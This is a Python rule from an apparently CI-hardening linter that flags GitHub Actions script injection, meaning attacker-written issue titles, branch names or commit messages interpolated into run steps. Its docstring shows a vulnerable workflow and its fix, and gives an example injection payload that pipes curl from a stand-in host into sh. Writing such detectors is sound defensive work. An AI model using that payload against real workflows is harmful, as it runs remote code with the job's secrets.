"""A stranger's words that become part of a script."""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import lru_cache

from hardenctl.formats.workflow import CALL, PRIVILEGED, PULL_REQUESTS, USE, Step, Workflow, let_through
from hardenctl.formats.workflow_values import expressions, named, origins, yielded
from hardenctl.model.finding import Hit, Severity, advice
from hardenctl.model.text import Span
from hardenctl.rules.ci.conditions import worst_under
from hardenctl.rules.declare import rule

# What a stranger writes, or names at will. https://docs.github.com/en/actions/concepts/security/script-injections
_WRITTEN = re.compile(
    r"github\.head_ref\b"
    r"|github\.event\.(?:issue|discussion|pull_request)\.(?:title|body)\b"
    r"|github\.event\.(?:comment|review|review_comment|answer)\.body\b"
    r"|github\.event\.changes\.(?:title|body)\.from\b"
    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage))\b"
    r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:name|email)))\b"
    r"|github\.event\.(?:head_commit|commits(?:\[\d+\]|\.\*))\.(?:message|(?:author|committer)\.(?:name|email))\b"
    r"|github\.event\.pages(?:\[\d+\]|\.\*)\.page_name\b"
    r"|\btoJSON\s*+\(\s*+github(?:\.event(?:\.(?:issue|discussion|pull_request(?:\.head)?|comment|review|changes|pages"
    r"|head_commit|commits|workflow_run(?:\.head_commit)?))?)?\s*+\)",  # with all that is below
    re.IGNORECASE,
)
# Which events have what is written.
_EVENTS = {
    "head_ref": frozenset(("pull_request", "pull_request_target")),
    "pull_request": PULL_REQUESTS,
    "review": PULL_REQUESTS,
    "review_comment": PULL_REQUESTS,
    "issue": frozenset(("issues", "issue_comment")),
    "discussion": frozenset(("discussion", "discussion_comment")),
    "answer": frozenset(("discussion",)),
    "comment": frozenset(("issue_comment", "discussion_comment", "commit_comment", "pull_request_review_comment")),
    "workflow_run": frozenset(("workflow_run",)),
    "head_commit": frozenset(("push",)),
    "commits": frozenset(("push",)),
    "pages": frozenset(("gollum",)),
}
_EDITED = frozenset(("issues", "issue_comment", "discussion", "discussion_comment")) | PULL_REQUESTS
_ALL = frozenset[str]().union(*_EVENTS.values())


@rule("ci-script-injection", on=Workflow, severity=Severity.HIGH)
def script_injection(workflow: Workflow) -> Iterator[Hit]:
    """What a stranger writes becomes part of a script.

    ## Why is this bad?
    An expression is put into the script before the shell reads it. An issue whose title is
    `"; curl evil.example | sh #`, or a branch of such a name, runs as a command, with the job's token and secrets.

    It is followed through variables, a matrix, outputs, and the inputs of the project's own actions and workflows.

    Low where only people who may push can start the workflow, or where it runs a pull request's code anyway, without
    secrets (`pull_request`). Medium in an action that nothing in the project uses.

    ## Example
    ```yaml title=".github/workflows/greet.yml"
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "Thanks for ${{ github.event.issue.title }}"
    ```

    ## Use instead
    Hand it over as a variable, which the shell does not read as code.

    ```yaml title=".github/workflows/greet.yml"
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "Thanks for $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```

    ## References
    - https://docs.github.com/en/actions/concepts/security/script-injections
    """
    said: set[tuple[str, Span]] = set()  # a step that several jobs share by an alias
    for job in workflow.jobs:
        for step in job.steps:
            for written, (severity, span, text) in _found(step, workflow).items():
                if (written, span) in said:
                    continue
                said.add((written, span))
                way = f", by way of {name}," if written not in yielded(text) and (name := named(text)) else ""
                message = f"{written}{way} becomes part of {'the script' if step.uses is None else 'the program'}"
                fix = advice("set it as a variable under `env`, and use the variable")
                yield Hit(span, message, identity=f"{job.name} {written}".strip(), severity=severity, fix=fix)


def _found(step: Step, workflow: Workflow) -> dict[str, tuple[Severity, Span, str]]:
    """What strangers have written in a step's script: how bad that is at worst, where, and in which expression."""
    found: dict[str, tuple[Severity, Span, str]] = {}
    if (script := step.script) is None:
        return found
    for start, end, text in expressions(script):
        for written, severity in _written(text, step, workflow):
            if written not in found or severity > found[written][0]:
                found[written] = severity, script.strand.span(start, end), text
    return found


def _written(text: str, step: Step, workflow: Workflow) -> Iterator[tuple[str, Severity]]:
    """What a stranger has written of what an expression in a script yields, and how bad that is."""
    for start in workflow.starts:
        condition = f"{start.condition} {step.condition}"
        triggers = let_through(start.triggers, condition)
        for each in origins(text, step.node, step.scope, start.given):
            if (written := _written_in(each)) is None:
                continue
            events = triggers & (_events_of(written, workflow) | {CALL, USE})
            if events & PRIVILEGED:
                yield written, Severity.HIGH if worst_under(condition) is None else Severity.LOW
            elif events:
                yield written, Severity.MEDIUM if USE in events else Severity.LOW


@lru_cache(maxsize=64)  # a value that many steps name
def _written_in(text: str) -> str | None:
    found = _WRITTEN.search(text)
    return found[0] if found else None


def _events_of(written: str, workflow: Workflow) -> frozenset[str]:
    """The events that have what is written."""
    if written.endswith("head_branch") and workflow.has_fixed_branches:
        return frozenset()
    names = re.findall(r"[a-z_]+", written.lower().partition("github")[2].removeprefix(".event"))
    if not names:
        return _ALL
    return _EDITED if names[0] == "changes" else _EVENTS[names[0]]
